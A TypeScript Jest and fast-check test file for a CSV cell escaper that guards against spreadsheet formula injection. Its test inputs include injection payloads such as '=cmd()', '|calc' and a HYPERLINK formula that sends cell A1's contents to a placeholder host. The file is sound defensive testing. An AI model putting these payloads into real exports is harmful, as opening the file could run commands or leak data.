import { describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import { csvCell } from './csv-cell.js';

/** What a CSV reader makes of one quoted cell. */
const parsed = (cell: string): string => {
  expect(cell).toMatch(/^"(?:[^"]|"")*"$/);
  return cell.slice(1, -1).replaceAll('""', '"');
};

describe('82 a CSV cell that spreadsheets would run', () => {
  it.each([
    '=cmd()',
    `=HYPERLINK("http://x/?"&A1,"y")`,
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u0000=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '|calc',
    '%0A',
  ])('82 is shown as text: %j', (text) => {
    expect(parsed(csvCell(text))).toBe(`'${text}`);
  });

  it.each(['', 'HEART T-LIGHT', '17850', 'a=b', 'a,b;c', 'a"b', 'line\nline', 'ü', '{"a":-1}'])(
    '82 stays as it is when it is harmless: %j',
    (text) => {
      expect(parsed(csvCell(text))).toBe(text);
    },
  );

  it('82 never begins like a formula, and loses nothing', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const shown = parsed(csvCell(text));
        expect(shown === text || shown === `'${text}`).toBe(true);
        expect(shown.trimStart().charAt(0)).not.toMatch(/[=+\-@]/);
      }),
      { numRuns: 2_000 },
    );
  });
});
